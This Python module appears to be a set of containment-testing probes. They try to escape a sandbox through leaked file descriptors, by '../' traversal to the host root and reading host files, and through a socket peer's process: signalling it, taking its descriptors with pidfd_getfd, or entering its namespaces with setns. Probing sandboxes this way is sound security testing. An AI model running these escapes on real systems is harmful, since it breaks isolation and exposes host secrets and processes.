"""Attacks by what was left open: files, folders, sockets and the processes behind them."""

from __future__ import annotations

import os
import signal
import socket
import stat
from collections.abc import Callable
from contextlib import suppress
from typing import Any

from attempt import Contained, Given, attack, call, first, main

_SO_PEERPIDFD = 77
_USES: dict[str, Callable[[int], object]] = {
    "signal": lambda handle: signal.pidfd_send_signal(handle, signal.SIGCONT),
    "take descriptors of": lambda handle: os.close(call(438, handle, 0, 0)),
    "enter": lambda handle: call("setns", handle, 0x20000),
}


@attack
def use_open_files(given: Given) -> str:
    """A folder that was left open leads up to the host's root; a file may be read."""
    for number in _numbers():
        try:
            mode = os.fstat(number).st_mode
            path = "../" * 32 + given["secret"].lstrip("/")
            if stat.S_ISDIR(mode):
                with open(os.open(path, os.O_RDONLY, dir_fd=number)) as file:
                    if given["token"] in file.read():
                        return f"descriptor {number} leads to the host's root"
            elif stat.S_ISREG(mode) and given["token"].encode() in os.pread(number, 1 << 16, 0):
                return f"descriptor {number} is the host's"
        except OSError:
            continue
    raise Contained("nothing of the host is open")


@attack
def use_peer_process(given: Given) -> str:
    """A unix socket names the process at its other end: the gateway."""
    for number in _numbers():
        try:
            sock = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        with sock:
            try:
                handle = sock.getsockopt(socket.SOL_SOCKET, _SO_PEERPIDFD)
            except OSError:
                continue
        with open(f"/proc/self/fdinfo/{handle}") as file:
            if f"Pid:\t{os.getpid()}\n" in file.read():
                continue  # both ends are ours
        with suppress(Contained):
            what = first(_USES, lambda what, handle=handle: _USES[what](handle), "")  # type: ignore[misc]
            return f"could {what} the process behind descriptor {number}"
    raise Contained("no peer can be used")


def listing() -> dict[str, Any]:
    """What is open: each descriptor's kind; of sockets, whether they listen, and whose the other end is."""
    return {str(number): _described(number) for number in _numbers()}


def _described(number: int) -> str:
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        return "gone"
    if not target.startswith("socket:"):
        return target.split(":[")[0] if target.startswith("pipe:") else target
    with socket.socket(fileno=os.dup(number)) as sock:
        family = socket.AddressFamily(sock.family).name
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            return f"{family} listening"
        peer = int.from_bytes(sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)[:4], "little")
        return f"{family} {'own' if peer == os.getpid() else 'connection'}"


def _numbers() -> list[int]:
    return [int(name) for name in os.listdir("/proc/self/fd")]


if __name__ == "__main__":
    main()
